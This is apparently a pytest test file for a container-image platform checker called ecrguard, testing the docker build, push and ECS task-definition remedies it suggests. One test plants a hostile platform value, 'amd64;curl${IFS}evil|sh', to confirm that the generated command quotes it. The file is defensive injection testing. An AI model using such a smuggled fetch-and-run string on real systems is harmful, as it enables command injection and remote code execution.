"""Remedies: the image that they build is one that passes, and nothing in them can break out of a command."""

from __future__ import annotations

import pytest
from tests.situations import DIGEST, apprunner, ecs, index, platforms, push, single

from ecrguard.domain.image import Evidence, Image, ImageKind, Offer
from ecrguard.domain.judge import Requirements, judge
from ecrguard.domain.platform import Platform, parse
from ecrguard.domain.policy import Demand, Match
from ecrguard.domain.remedy import change_definition, push_again
from ecrguard.domain.verdict import Failure, Subject, SubjectKind
from ecrguard.domain.workload import Basis, Workload

RULE = Subject(SubjectKind.POLICY_RULE, "policy rule web")
URI = "123456789012.dkr.ecr.eu-central-1.amazonaws.com/team/web:1.4"


def demand(texts: str, match: Match = Match.ALL, *, extra: bool = True) -> Requirements:
    return Requirements(Demand(tuple(parse(text, partial=True) for text in texts.split()), match, extra), RULE)


REBUILT = {
    "a single image for the one platform needed": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(),)),
        "linux/amd64",
    ),
    "an index keeps what it has": (
        index("linux/arm64 linux/arm/v7"),
        Requirements(workloads=(ecs(),)),
        "linux/arm64,linux/arm/v7,linux/amd64",
    ),
    "a single image that another service needs keeps its platform": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(), ecs("linux/arm64", name="b"))),
        "linux/arm64,linux/amd64",
    ),
    "a single image for a cluster of both": (
        single("linux/arm64"),
        Requirements(workloads=(ecs("linux/amd64 linux/arm64"),)),
        "linux/arm64,linux/amd64",
    ),
    "all that the policy names, not the missing one alone": (
        single("linux/amd64"),
        demand("linux/amd64 linux/arm64"),
        "linux/amd64,linux/arm64",
    ),
    "nothing else than the policy names": (
        index("linux/amd64 linux/s390x"),
        demand("linux/amd64 linux/arm64", extra=False),
        "linux/amd64,linux/arm64",
    ),
    "only what may stay": (index("linux/amd64 linux/s390x"), demand("linux/amd64", extra=False), "linux/amd64"),
    "one of those of which any will do": (
        single("linux/s390x"),
        demand("linux/arm64 linux/amd64", Match.ANY),
        "linux/arm64",
    ),
    "what the policy leaves open stays as it is": (single("linux/amd64"), demand("arm64"), "linux/arm64"),
    "of an architecture alone, among others, nothing else": (
        index("linux/amd64 linux/arm64"),
        demand("arm64", extra=False),
        "linux/arm64",
    ),
    "an os alone": (single("windows/amd64"), demand("linux"), "linux/amd64"),
    "nothing there to go by": (index(""), demand("arm64"), "linux/arm64"),
}


@pytest.mark.parametrize(("image", "needs", "targets"), REBUILT.values(), ids=REBUILT.keys())
def test_the_image_that_the_remedy_builds_is_the_one_that_would_pass(
    image: Image, needs: Requirements, targets: str
) -> None:
    (finding,) = judge(push(), image, needs).findings
    command = f"docker buildx build --platform {targets} --tag {URI} --push ."

    assert finding.remedy[0].command == command
    built = index(targets.replace(",", " "))
    assert not judge(push(), built, needs).findings


def test_every_finding_of_an_image_has_the_same_commands() -> None:
    needs = Requirements(demand("linux/amd64 linux/arm/v7").demand, RULE, workloads=(ecs("linux/amd64"),))

    first, second = judge(push(), single("linux/arm64"), needs).findings

    assert first.remedy[0] == second.remedy[0]
    assert "--platform linux/amd64,linux/arm/v7 " in first.remedy[0].command


def test_what_needs_one_platform_can_also_be_copied_from_where_it_came() -> None:
    build, copy = push_again(URI, platforms("linux/amd64"))

    assert (build.text, copy.text) == (
        "If you build it:",
        "If you copied it from elsewhere, with its name there for SOURCE_IMAGE:",
    )
    assert copy.command == (
        f"docker pull --platform linux/amd64 SOURCE_IMAGE && docker tag SOURCE_IMAGE {URI} && docker push {URI}"
    )


def test_what_needs_two_platforms_cannot_be_pulled_as_one() -> None:
    assert len(push_again(URI, platforms("linux/amd64 linux/arm64"))) == 1


def test_nothing_to_build_gives_no_command() -> None:
    assert push_again(URI, ()) == ()


def test_another_build_of_windows_comes_with_its_base_image_and_by_no_option() -> None:
    workloads = (ecs("windows(10.0.20348)/amd64"),)

    (finding,) = judge(push(), single("windows(10.0.17763.5)/amd64"), Requirements(workloads=workloads)).findings

    assert finding.failure is Failure.WINDOWS_BUILD
    assert [remedy.text for remedy in finding.remedy] == ["Build it FROM a base image of Windows build 10.0.20348."]


def test_what_an_image_says_of_itself_cannot_break_out_of_a_command() -> None:
    hostile = Platform("linux", "amd64;curl${IFS}evil|sh")
    image = Image(DIGEST, "", ImageKind.INDEX, (Offer(hostile, Evidence.DESCRIPTOR, DIGEST),))

    (finding,) = judge(push(), image, Requirements(workloads=(ecs(),))).findings

    assert "--platform 'linux/amd64;curl${IFS}evil|sh,linux/amd64' " in finding.remedy[0].command


DEFINITIONS = {
    "not where ECS promises no such CPU level": (ecs("linux/arm64"), index("linux/amd64/v3"), ""),
    "not what it says already": (ecs(), index("linux/amd64/v3"), ""),
    "the other architecture": (ecs(), single("linux/arm64"), '"cpuArchitecture": "ARM64"'),
    "the first by name where it has both": (ecs("linux/s390x"), index("linux/arm64 linux/amd64"), '"ARM64"'),
    "not for App Runner, which has none": (apprunner(), single("linux/arm64"), ""),
    "not where the cluster decides": (ecs(basis=Basis.CAPACITY), single("linux/arm64"), ""),
    "not for a service on several platforms": (ecs("linux/amd64 linux/arm64"), single("linux/arm64"), ""),
    "not for what ECS has no name": (ecs(), single("linux/s390x"), ""),
    "not for Windows": (ecs("windows(10.0.20348)/amd64"), single("linux/arm64"), ""),
}


@pytest.mark.parametrize(("workload", "image", "words"), DEFINITIONS.values(), ids=DEFINITIONS.keys())
def test_the_task_definition_may_be_changed_instead_where_ecs_has_the_platform(
    workload: Workload, image: Image, words: str
) -> None:
    remedy = change_definition(workload, image)

    assert bool(remedy) == bool(words)
    assert all(words in each.text and "web:7" in each.text for each in remedy)
